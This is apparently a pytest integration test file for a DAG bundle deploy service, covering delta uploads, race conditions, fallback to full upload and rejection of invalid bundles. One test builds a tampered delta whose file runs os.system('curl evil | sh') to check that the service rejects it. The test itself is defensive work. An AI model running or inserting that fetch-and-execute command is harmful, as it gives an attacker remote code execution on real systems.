"""Slow links: a deploy with a live version uploads a delta against it, the ingest function rebuilds the
bundle from the base version's and validates it as any upload, and sidecars end up with the same bytes
as a full upload. A delta that cannot give the announced bundle is rejected and nothing goes live."""
from __future__ import annotations

import gzip
import hashlib
import io
import shutil
import tarfile
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from helpers import Api, aws, dag_source, deploy_waiting, files_of, metric, until, write_dags
from stack import local_stack

pytestmark = pytest.mark.integration

MANY = {f"dag_{i:03d}.py": dag_source(f"dag_{i:03d}", f"# padding {'x' * 400} {i}\n") for i in range(60)}


@pytest.fixture(scope="module")
def delta_stack(tmp_path_factory: pytest.TempPathFactory) -> Any:
    with local_stack(tmp_path_factory.mktemp("delta") / "state", sidecars=2, extra=["--parse", "off"]) as info:
        yield info


deploy = deploy_waiting


def live_files(info: dict[str, Any]) -> list[dict[str, bytes]]:
    return [files_of(Path(s["dags_path"])) for s in info["sidecars"]]


def test_a_one_file_change_uploads_a_delta_and_sidecars_get_the_same_bytes_as_a_full_upload(
    delta_stack: dict[str, Any], tmp_path: Path
) -> None:
    info = delta_stack
    first = write_dags(tmp_path / "v1", {**MANY, "lib/helpers.py": "X = 1\n", "old.py": dag_source("old")})
    code, doc, _ = deploy(info, first)
    assert code == 0 and doc["converged"], doc
    deltas_before = [metric(sc["metrics_url"], "dagcast_sidecar_fetches_total", 'kind="delta"') for sc in info["sidecars"]]

    second = tmp_path / "v2"
    shutil.copytree(first, second)
    (second / "dag_007.py").write_text(dag_source("dag_007", "# changed\n"))
    (second / "new.py").write_text(dag_source("new"))
    (second / "old.py").unlink()
    (second / "alias.py").symlink_to("dag_001.py")
    code, doc, stderr = deploy(info, second)
    assert code == 0 and doc["converged"], stderr
    assert doc["upload"]["kind"] == "delta" and doc["upload"]["base_version"] == doc["version"] - 1
    assert doc["upload"]["bytes"] * 4 < Path(first).stat().st_size + sum(len(v) for v in MANY.values()) // 4
    assert "delta against v" in stderr and "1 changed, 1 added, 1 removed" in stderr
    via_delta = live_files(info)
    view = Api(info).json("GET", f"/deployments/{info['deployment']}/deploys/{doc['deploy_id']}")
    assert view["deploy"]["sha256"] == doc["sha256"] and view["deploy"]["rebuilt_at"]
    # The uploaded delta was made against the live version, so it is the sidecars' delta as well: kept
    # in place (pinned to the object version ingest read), no second delta written, and each sidecar built
    # the new version from it.
    s3 = aws(info, "s3")
    [bucket] = [b["Name"] for b in s3.list_buckets()["Buckets"] if "bundles" in b["Name"]]
    deployment, deploy_id = info["deployment"], doc["deploy_id"]
    assert s3.head_object(Bucket=bucket, Key=f"bundles/{deployment}/{deploy_id}.delta.tar.gz")["ContentLength"] == \
        doc["upload"]["bytes"]
    assert s3.list_objects_v2(Bucket=bucket, Prefix=f"deltas/{deployment}/{deploy_id}").get("KeyCount") == 0
    # the deployer's key can be written again (by anyone with S3 write); the sidecars' delta is the object version
    # ingest read, never what the key holds now
    s3.put_object(Bucket=bucket, Key=f"bundles/{deployment}/{deploy_id}.delta.tar.gz", Body=b"not the delta")
    version = Api(info, token=info["sidecar_token"]).json("GET", f"/deployments/{deployment}/versions/current")
    served = httpx.get(version["delta_url"], timeout=30).content
    assert hashlib.sha256(served).hexdigest() == version["version"]["delta"]["sha256"]
    assert [metric(sc["metrics_url"], "dagcast_sidecar_fetches_total", 'kind="delta"') for sc in info["sidecars"]] == \
        [n + 1 for n in deltas_before], "v2 built from the delta"

    # The same folder uploaded whole gives the same bundle, so the sidecars' files are the same bytes.
    code, full, _ = deploy(info, second, "--full", "--force")
    assert code == 0 and full["upload"]["kind"] == "bundle" and full["sha256"] == doc["sha256"]
    assert live_files(info) == via_delta and via_delta[0]["new.py"] == dag_source("new").encode()
    assert "old.py" not in via_delta[0]


def test_a_delta_against_a_version_no_longer_live_is_made_again_against_the_new_one(
    delta_stack: dict[str, Any], tmp_path: Path
) -> None:
    """The race, made deterministic: the deploy announces a delta against v(N-1) while vN is live."""
    info = delta_stack
    api = Api(info)
    dep = info["deployment"]
    live = api.json("GET", f"/deployments/{dep}/versions/current")["version"]
    folder = write_dags(tmp_path / "race", {**MANY, "race.py": dag_source("race")})
    body = {"sha256": "0" * 64, "size": 10, "delta": {
        "base_version": live["version"] - 1, "base_sha256": live["sha256"], "sha256": "1" * 64, "size": 5,
        "files_sha256": "2" * 64, "removed": []}}
    resp = api.call("POST", f"/deployments/{dep}/deploys", body)
    assert resp.status_code == 409 and resp.json()["error"]["code"] == "base_moved", resp.text
    assert f"v{live['version']} is live" in resp.json()["error"]["message"]

    # A concurrent deploy lands between the CLI's look-up and its POST /deploys: the CLI's delta is
    # refused (base_moved), and it makes the delta again against the new live version.
    raced, before = _deploy_on_first_delta(info, write_dags(tmp_path / "other", {**MANY, "other.py": dag_source("other")}))
    with _Proxy(info["api_url"], before) as url:
        code, doc, stderr = deploy({**info, "api_url": url}, folder)
    assert raced and code == 0, stderr
    assert f"v{raced[0]} went live meanwhile; making the delta against it" in stderr
    assert doc["upload"] == {"kind": "delta", "bytes": doc["upload"]["bytes"], "base_version": raced[0]}
    assert doc["version"] == raced[0] + 1 and doc["converged"]


def _deploy_on_first_delta(info: dict[str, Any], other: Path) -> tuple[list[int], Callable[[str, str, bytes], None]]:
    """A proxy hook that, on the first POST /deploys announcing a delta, deploys `other` (whole) to the
    real API and records the version it made live: another deploy landing at that moment."""
    raced: list[int] = []

    def hook(method: str, path: str, body: bytes) -> None:
        if method == "POST" and path.endswith("/deploys") and b'"delta"' in body and not raced:
            code, doc, _ = deploy(info, other, "--full")
            assert code == 0, doc
            raced.append(doc["version"])

    return raced, hook


class _Proxy:
    """The API behind a forwarding HTTP proxy on 127.0.0.1 that calls `before` ahead of each request."""

    def __init__(self, target: str, before: Callable[[str, str, bytes], None],
                 after: Callable[[str, str, bytes], None] = lambda *_: None) -> None:
        proxy = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def _forward(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                before(self.command, self.path.split("?")[0], body)
                headers = {k: v for k, v in self.headers.items() if k.lower() not in ("host", "content-length")}
                resp = httpx.request(self.command, target.rstrip("/") + self.path, content=body, headers=headers,
                                     timeout=60)
                after(self.command, self.path.split("?")[0], body)
                self.send_response(resp.status_code)
                for k, v in resp.headers.items():
                    if k.lower() not in ("content-length", "transfer-encoding", "connection", "content-encoding"):
                        self.send_header(k, v)
                self.send_header("Content-Length", str(len(resp.content)))
                self.end_headers()
                self.wfile.write(resp.content)

            do_GET = do_POST = do_PUT = do_DELETE = do_PATCH = _forward

        proxy.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)

    def __enter__(self) -> str:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()


def test_a_delta_whose_base_moves_before_ingest_is_rejected_by_ingest_and_made_again(
    delta_stack: dict[str, Any], tmp_path: Path
) -> None:
    """The other side of the race: the API accepted the delta, then another deploy went live before the
    delta arrived; ingest refuses it (base_moved) and the CLI makes it again against the new version."""
    info = delta_stack
    folder = write_dags(tmp_path / "late", {**MANY, "late.py": dag_source("late")})
    raced, after = _deploy_on_first_delta(info, write_dags(tmp_path / "other", {**MANY, "other2.py": dag_source("other2")}))
    with _Proxy(info["api_url"], lambda *_: None, after) as url:
        code, doc, stderr = deploy({**info, "api_url": url}, folder)
    assert raced and code == 0, stderr
    assert "the delta was refused (base_moved)" in stderr
    assert doc["upload"]["kind"] == "delta" and doc["upload"]["base_version"] == raced[0]
    history = Api(info).json("GET", f"/deployments/{info['deployment']}/deploys?limit=5")["items"]
    refused = [d for d in history if d["state"] == "REJECTED" and d["errors"] and d["errors"][0]["code"] == "base_moved"]
    assert refused, "the refused delta stays in the history, saying why"


def test_a_tampered_delta_is_rejected_and_nothing_goes_live(delta_stack: dict[str, Any]) -> None:
    """As a deployer who announces one folder's bundle and uploads another delta (its own sha256 and size)."""
    info = delta_stack
    api = Api(info)
    dep = info["deployment"]
    before = api.json("GET", f"/deployments/{dep}/versions/current")["version"]
    evil = io.BytesIO()
    with gzip.GzipFile(fileobj=evil, mode="wb", mtime=0) as gz, tarfile.open(fileobj=gz, mode="w") as tar:
        data = b"import os\nos.system('curl evil | sh')\n"
        member = tarfile.TarInfo("dag_007.py")
        member.size = len(data)
        tar.addfile(member, io.BytesIO(data))
    raw = evil.getvalue()
    body = {"sha256": "e" * 64, "size": before["size"], "description": "tampered", "delta": {
                "base_version": before["version"], "base_sha256": before["sha256"],
                "sha256": hashlib.sha256(raw).hexdigest(), "size": len(raw), "files_sha256": "3" * 64, "removed": []}}
    created = api.json("POST", f"/deployments/{dep}/deploys", body)
    form = created["upload"]
    resp = httpx.post(form["url"], data=form["fields"], files={"file": ("d.tar.gz", raw, "application/gzip")})
    assert resp.status_code < 300, resp.text
    deploy_id = created["deploy"]["deploy_id"]

    def decided() -> bool:
        return api.json("GET", f"/deployments/{dep}/deploys/{deploy_id}")["deploy"]["state"] != "PENDING"

    until(decided, 60, "the tampered delta decided")
    view = api.json("GET", f"/deployments/{dep}/deploys/{deploy_id}")["deploy"]
    assert view["state"] == "REJECTED" and view["errors"][0]["code"] == "delta_mismatch", view
    assert api.json("GET", f"/deployments/{dep}/versions/current")["version"]["version"] == before["version"]


def test_a_delta_whose_base_bundle_is_gone_falls_back_to_a_full_upload(
    delta_stack: dict[str, Any], tmp_path: Path
) -> None:
    info = delta_stack
    api = Api(info)
    dep = info["deployment"]
    live = api.json("GET", f"/deployments/{dep}/versions/current")["version"]
    s3 = aws(info, "s3")
    [bucket] = [b["Name"] for b in s3.list_buckets()["Buckets"] if "bundles" in b["Name"]]
    versions = s3.list_object_versions(Bucket=bucket, Prefix=live["key"]).get("Versions", [])
    assert versions
    for v in versions:  # the base version's bundle pruned under the CLI's feet
        s3.delete_object(Bucket=bucket, Key=live["key"], VersionId=v["VersionId"])
    folder = write_dags(tmp_path / "fallback", {**MANY, "fallback.py": dag_source("fallback")})
    code, doc, stderr = deploy(info, folder)
    assert code == 0 and doc["converged"], stderr
    assert "base_unavailable" in stderr and doc["upload"]["kind"] == "bundle", stderr


def test_a_delta_that_rebuilds_into_an_invalid_bundle_is_rejected_naming_the_file_and_leaves_nothing_at_its_key(
    delta_stack: dict[str, Any], tmp_path: Path
) -> None:
    """As a deployer who skips the CLI: an honest delta (it rebuilds exactly into the bundle announced)
    whose bundle does not compile. The deploy is rejected naming the file, nothing goes live, and the
    deploy's key holds no bundle (see also test_guarantees_server: it is stored only once valid)."""
    from chalicelib.bundle import DeltaCollector, validate_stream
    from dagcast import bundler

    info = delta_stack
    api = Api(info)
    dep = info["deployment"]
    base = write_dags(tmp_path / "base", {**MANY, "base.py": dag_source("base")})
    code, doc, _ = deploy(info, base)
    assert code == 0 and doc["converged"], doc
    live = api.json("GET", f"/deployments/{dep}/versions/current")["version"]
    broken = tmp_path / "broken"
    shutil.copytree(base, broken)
    (broken / "broken.py").write_text("def broken(:\n    pass\n")

    def bundle_of(folder: Path) -> io.BytesIO:
        out = io.BytesIO()
        bundler.build(folder, out)
        out.seek(0)
        return out

    base_report = validate_stream(bundle_of(base))
    collect = DeltaCollector({f.path: f.sha256 for f in base_report.manifest})
    whole = bundle_of(broken)
    report = validate_stream(io.BytesIO(whole.getvalue()), check_python=False, collect=collect)
    built = collect.build(report.manifest, report.bytes)
    assert built is not None
    body = {"sha256": report.sha256, "size": len(whole.getvalue()), "description": "broken by delta", "delta": {
        "base_version": live["version"], "base_sha256": live["sha256"], "sha256": built.sha256,
        "size": len(built.data), "files_sha256": built.files_sha256, "removed": built.removed,
        "compresslevel": bundler.COMPRESSLEVEL}}
    created = api.json("POST", f"/deployments/{dep}/deploys", body)
    form = created["upload"]
    resp = httpx.post(form["url"], data=form["fields"], files={"file": ("d.tar.gz", built.data, "application/gzip")})
    assert resp.status_code < 300, resp.text
    deploy_id = created["deploy"]["deploy_id"]
    until(lambda: api.json("GET", f"/deployments/{dep}/deploys/{deploy_id}")["deploy"]["state"] not in
          ("PENDING", "VALIDATING"), 60, "the broken delta decided")
    view = api.json("GET", f"/deployments/{dep}/deploys/{deploy_id}")["deploy"]
    assert view["state"] == "REJECTED" and view["rebuilt_at"], view
    assert [(e["code"], e["path"]) for e in view["errors"]] == [("syntax_error", "broken.py")], view["errors"]
    assert api.json("GET", f"/deployments/{dep}/versions/current")["version"]["version"] == live["version"]
    s3 = aws(info, "s3")
    [bucket] = [b["Name"] for b in s3.list_buckets()["Buckets"] if "bundles" in b["Name"]]
    stored = s3.list_object_versions(Bucket=bucket, Prefix=created["deploy"]["key"])
    assert not stored.get("Versions"), "an invalid rebuilt bundle was left behind"
